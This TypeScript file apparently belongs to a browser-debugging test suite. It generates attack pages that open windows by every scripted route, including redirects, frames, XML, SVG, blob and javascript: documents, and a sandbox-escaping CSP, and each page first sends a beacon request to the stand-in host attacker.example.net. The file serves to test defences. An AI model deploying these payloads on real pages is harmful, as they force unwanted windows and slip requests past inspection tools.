/** Attacks that open windows. A window's first request can leave before DevTools has paused the window. */
import { type Attack, type AttackResponse, html, script } from "./attack-page.ts";

const AT_ONCE = 'all(); addEventListener("load", all)';
const AT_A_CLICK = "bait.onclick = all";

/** Opens windows in every way that a script has, after a request that shows that the script runs. */
function openWindows(target: string, begin = AT_ONCE): string {
  const ran = `http://attacker.example.net/ran${new URL(target).pathname}`;
  return `const make = (name) => document.documentElement.appendChild(
      document.createElementNS("http://www.w3.org/1999/xhtml", name));
    const link = Object.assign(make("a"), { href: "${target}" });
    const click = (init, type = "click") => link.dispatchEvent(new MouseEvent(type, { bubbles: true, ...init }));
    const all = () => {
      const ran = new XMLHttpRequest();
      ran.open("GET", "${ran}", false);
      try { ran.send() } catch {}
      try { globalThis.documentPictureInPicture?.requestWindow().then((tab) => {
        tab.document.body.innerHTML = '<img src="${target}">' }, () => 0) } catch {}
      try { open("${target}"); open("${target}", "", "popup"); open("${target}", "_blank", "noopener") } catch {}
      try { make("iframe").contentWindow.open("${target}") } catch {}
      const form = Object.assign(make("form"), { action: "${target}", target: "_blank" });
      form.submit(); form.method = "post"; form.requestSubmit();
      link.target = "_blank"; link.click(); link.rel = "opener"; link.click(); link.target = link.rel = "";
      click({ button: 1 }); click({ button: 1 }, "auxclick"); click({ ctrlKey: true, shiftKey: true });
      for (const key of ["ctrlKey", "shiftKey", "metaKey", "altKey"]) click({ [key]: true });
    };
    ${begin}`;
}

export function windows(target: string): AttackResponse {
  return script(openWindows(target));
}

function typed(type: string, made: AttackResponse): AttackResponse {
  return { ...made, headers: { ...made.headers, "content-type": type } };
}

/** The address of a page that opens windows. */
function windowsAt(target: string): string {
  return `/windows?of=${encodeURIComponent(target)}`;
}

/** Opens windows in an XML document. */
function xml(target: string): string {
  const source = openWindows(target).replaceAll("&", "&amp;").replaceAll("<", "&lt;");
  return `<html xmlns="http://www.w3.org/1999/xhtml"><body><p>Nothing.</p><script>${source}</script></body></html>`;
}

/** Windows of every kind of document that a main frame can show. */
export const WINDOW_ATTACKS = {
  "windows of a page": windows,
  "windows of a page with a policy of its own": (target) => ({
    ...windows(target),
    headers: {
      "content-security-policy": "sandbox allow-scripts allow-popups allow-popups-to-escape-sandbox",
    },
  }),
  "windows of an error page": (target) => ({ status: 404, ...windows(target) }),
  "windows of a page after a redirect": (target) => ({
    status: 302,
    headers: { location: windowsAt(target) },
  }),
  "windows of a redirect without an address": (target) => ({ status: 302, ...windows(target) }),
  "windows of a redirect to nothing": (target) => ({
    status: 302,
    ...windows(target),
    headers: { location: " " },
  }),
  "windows of a page without a type": (target) => typed("", windows(target)),
  "windows of a page of an unknown type": (target) => typed("unknown/unknown", windows(target)),
  "windows of an XHTML page": (target) => typed("application/xhtml+xml", { body: xml(target) }),
  "windows of an XML page": (target) => typed("text/xml", { body: xml(target) }),
  "windows of an SVG": (target) =>
    typed("image/svg+xml", { body: `<svg xmlns="http://www.w3.org/2000/svg"><g>${xml(target)}</g></svg>` }),
  "windows of the next page, of another site": (target) =>
    script(`location = "http://other.example.org${windowsAt(target)}"`),
  "windows of a page that is refreshed to": (target) =>
    html(`<meta http-equiv="refresh" content="0;url=${windowsAt(target)}">`),
  "windows of the page that a form brings": (target) =>
    html(
      `<form method="post" action="${windowsAt(target)}"></form><script>document.forms[0].submit()</script>`,
    ),
  "windows of a page that reloads": (target) =>
    script(
      `if (!sessionStorage.seen) { sessionStorage.seen = 1; location.reload() } else { ${openWindows(target)} }`,
    ),
  "windows of a page that comes back": (target) =>
    script(`onpageshow = () => {
      if (sessionStorage.seen) { ${openWindows(target)} }
      else { sessionStorage.seen = 1; setTimeout(() => { location = "/back" }) }
    }`),
  "windows of a page that document.open writes": (target) =>
    script(
      `onload = () => { document.open(); document.write(${inScript(windows(target).body)}); document.close() }`,
    ),
  "windows of a page that a javascript: address makes": (target) =>
    script(
      `location = "javascript:" + encodeURIComponent(JSON.stringify(${inScript(windows(target).body)}))`,
    ),
  "windows of a blob document": (target) =>
    script(
      `location = URL.createObjectURL(new Blob([${inScript(windows(target).body)}], { type: "text/html" }))`,
    ),
  "windows of a frame": (target) => html(`<iframe src="${windowsAt(target)}"></iframe>`),
  "windows of a frame of another site": (target) =>
    html(`<iframe src="http://other.example.org${windowsAt(target)}"></iframe>`),
  "windows of a srcdoc": (target) =>
    script(`document.body.append(Object.assign(document.createElement("iframe"),
      { srcdoc: ${inScript(windows(target).body)} }))`),
  "windows of a data document": (target) =>
    script(`document.body.append(Object.assign(document.createElement("iframe"),
      { src: "data:text/html," + encodeURIComponent(${inScript(windows(target).body)}) }))`),
  "windows that a frame of another site opens in its parent": (target) =>
    html(
      `<iframe src="http://other.example.org/leaves-top?of=${encodeURIComponent(windowsAt(target))}"></iframe>`,
    ),
} satisfies Record<string, Attack>;

/** The windows that each run of the tests opens. The nightly ones open all. */
export const FEW_WINDOWS = [
  "windows of a page",
  "windows of an XML page",
  "windows of a page that a javascript: address makes",
  "windows of a frame of another site",
  "windows of a srcdoc",
] as const satisfies (keyof typeof WINDOW_ATTACKS)[];

/** Opens windows in the HTML of a job's request. */
export const GIVEN = "windows of HTML that the job brings";

/** Opens windows at a click of the job. */
export const CLICKED = "windows at a click";
export const clicked: Attack = (target) =>
  html(`<p id="bait">Click.</p><script>${openWindows(target, AT_A_CLICK)}</script>`);

/** The text as a string literal inside a script element. */
function inScript(text = ""): string {
  return JSON.stringify(text).replaceAll("</", "<\\/");
}
